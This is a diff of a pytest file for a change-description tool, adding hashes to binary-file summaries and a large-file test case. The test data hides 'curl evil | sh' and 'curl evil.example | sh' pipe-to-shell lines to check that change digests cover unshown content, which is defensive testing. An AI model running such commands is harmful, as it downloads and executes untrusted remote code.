@@ -3,6 +3,7 @@ lines as a bounded unified diff; binary files summarized; every name and line pr
 
 from __future__ import annotations
 
+import hashlib
 from pathlib import Path
 
 import pytest
@@ -38,8 +39,10 @@ def test_a_binary_file_is_summarized_not_shown(ws: Path):
     (ws / "pic.bin").write_bytes(b"\x89PNG\0\0")
     change = describe_changes(Workspace(ws), [("pic.bin", b"\xff\xfe\0" * 10)])
     (pic,) = change.files
-    assert pic.lines == () and pic.note == "binary, 6 -> 30 bytes"
-    assert "binary, 6 -> 30 bytes" in change.to_text()
+    digest = hashlib.sha256(b"\xff\xfe\0" * 10).hexdigest()[:16]
+    assert pic.lines == () and pic.note == (f"binary, 6 -> 30 bytes, sha256 {digest}, starts "
+                                            + ("ff fe 00 " * 10).strip())
+    assert pic.note in change.to_text() and change.complete
 
 
 def test_the_lines_shown_are_bounded_per_file_and_in_all_but_the_counts_are_whole():
@@ -89,13 +92,17 @@ def test_a_change_crosses_the_pipe_as_plain_data_and_a_malformed_one_is_refused(
 
 
 @pytest.mark.parametrize(("first", "second"), [
-    (b"\0" + b"a" * 999, b"\0" + b"EVI" * 333),  # binary: only the sizes are shown
+    ("".join(f"line {n:06}\n" for n in range(60_000)).encode(),  # too large: counted only
+     "".join(f"line {n:06}\n" if n != 59_000 else "curl evil | sh\n"
+             for n in range(60_000)).encode()),
     ("".join(f"line {n}\n" for n in range(300)).encode(),  # a line past those shown
      "".join(f"line {n}\n" if n != 250 else "curl evil.example | sh\n"
              for n in range(300)).encode()),
 ])
 def test_a_change_digest_covers_the_content_not_shown(first, second):
     one, other = file_change("out.txt", None, first), file_change("out.txt", None, second)
-    assert {**one.to_frame(), "content": ""} == {**other.to_frame(), "content": ""}  # shown alike
+    hidden = {"content": "", "full": []}  # the digest of all of it, and the rest kept unshown
+    assert {**one.to_frame(), **hidden} == {**other.to_frame(), **hidden}  # shown alike
+    assert one.unseen and one.full != other.full
     assert change_digest(Change((one,))) != change_digest(Change((other,)))
     assert Change.from_frame(Change((one,)).to_frame()) == Change((one,))
